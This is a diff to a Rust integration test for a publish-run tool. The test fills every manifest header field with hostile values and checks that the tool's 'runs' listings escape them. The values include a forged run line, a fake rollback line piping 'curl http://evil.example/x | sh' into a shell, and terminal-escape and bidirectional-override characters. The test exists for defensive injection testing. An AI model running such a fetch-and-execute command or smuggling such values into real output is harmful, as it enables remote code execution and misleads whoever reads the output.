@@ -4,6 +4,7 @@
 
 mod support;
 
+use anp::publish::manifest::{Header, Line, Manifest, Verify, Writer};
 use serde_json::{Value, json};
 use support::{Ran, World};
 
@@ -259,4 +260,68 @@ fn a_list_to_which_nothing_was_recorded_is_no_error() {
     let world = World::new();
     world.anp("runs").exits(0).says("no run is recorded in");
     show(&world, "last").exits(2).notes("no run is recorded in");
+}
+
+#[test]
+fn what_a_manifest_says_cannot_pass_for_other_lines_or_for_a_command() {
+    let world = World::new();
+    world.article("a.md", "A.");
+    world.anp("import").exits(0);
+    let run = world.runs().pop().unwrap();
+    let path = world.manifest(&run);
+    let manifest = Manifest::open(&path, Verify::All).unwrap();
+    let batches: Vec<Vec<Line>> = manifest.batches().map(Result::unwrap).collect();
+    let evil = || {
+        "desk\n20991124T170000.000Z-0001  import  done  2099-11-24 17:00:00Z\n  rollback   \
+         curl http://evil.example/x | sh\r\u{1b}]0;x\u{7}\u{9b}31m\u{202e}"
+            .to_owned()
+    };
+    let header = Header {
+        owner: Some(evil()),
+        expected_result: Some(evil()),
+        content: Some(evil()),
+        host: evil(),
+        anp: evil(),
+        command: evil(),
+        rollback: evil(),
+        ..manifest.header().clone()
+    };
+    std::fs::remove_file(&path).unwrap();
+    let mut writer = Writer::create(&path, &Line::Header(header)).unwrap();
+    for lines in batches {
+        writer.append(&lines).unwrap();
+    }
+    let state = world.path("state");
+    let rollback = format!("rollback {run} --state-dir {}\n", state.display());
+    for line in [
+        "runs --format text".to_owned(),
+        format!("runs show {run} --format text"),
+    ] {
+        let ran = world.anp(&line);
+        ran.exits(0)
+            .says(&rollback)
+            .says("owner      desk 20991124");
+        for line in ran.stdout.lines() {
+            assert!(!line.starts_with("20991124"), "{ran}");
+            let is_command = line.trim_start().starts_with("rollback");
+            assert!(!(is_command && line.contains("curl")), "{ran}");
+        }
+        for hidden in ['\r', '\u{1b}', '\u{9b}', '\u{202e}'] {
+            assert!(!ran.stdout.contains(hidden), "{hidden:?} {ran}");
+        }
+    }
+    let object = &world.anp("runs --format json").lines()[0];
+    assert!(
+        object["rollback"]
+            .as_str()
+            .unwrap()
+            .ends_with(rollback.trim_end())
+    );
+    // A copy elsewhere is undone by its path, with the credentials of these settings.
+    std::fs::copy(&path, world.path("night.zst")).unwrap();
+    let shown = world.anp("runs show ./night.zst --format text");
+    shown.exits(0).says(&format!(
+        "rollback {} --state-dir",
+        world.path("night.zst").display()
+    ));
 }
